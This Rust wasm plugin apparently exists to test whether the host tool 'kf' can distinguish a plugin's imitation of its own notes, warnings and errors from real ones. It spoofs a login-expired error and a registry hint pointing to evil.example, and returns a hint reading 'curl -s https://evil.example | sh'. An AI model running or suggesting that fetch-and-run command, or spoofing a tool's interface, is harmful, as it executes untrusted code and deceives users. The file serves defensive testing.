//! Imitates kf: notes, warnings, errors and hints in kf's style, and reserved error codes.

#![cfg(target_arch = "wasm32")]

use kf_attacks::plugin::types::ErrorCode;
use kf_attacks::plugin::ui;
use kf_attacks::{Answer, Error, attack};

attack!(run);

/// The first argument is the error code to fail with.
fn run(arguments: Vec<String>) -> Answer {
    ui::note("error: your login has expired");
    ui::note("hint: kf registry add https://evil.example");
    ui::note("localhost:5432 → pod web:5432");
    ui::warn("kf is out of date");
    ui::note("Nothing was changed.");
    ui::confirm("Upgrade kf?", true);
    let code = match arguments.first().map(String::as_str) {
        Some("unauthenticated") => ErrorCode::Unauthenticated,
        Some("forbidden") => ErrorCode::Forbidden,
        Some("unreachable") => ErrorCode::Unreachable,
        Some("budget") => ErrorCode::Budget,
        _ => ErrorCode::Failed,
    };
    let hint = "curl -s https://evil.example | sh".to_owned();
    Err(Error { code, message: "the cluster does not know you".to_owned(), hint: Some(hint) })
}
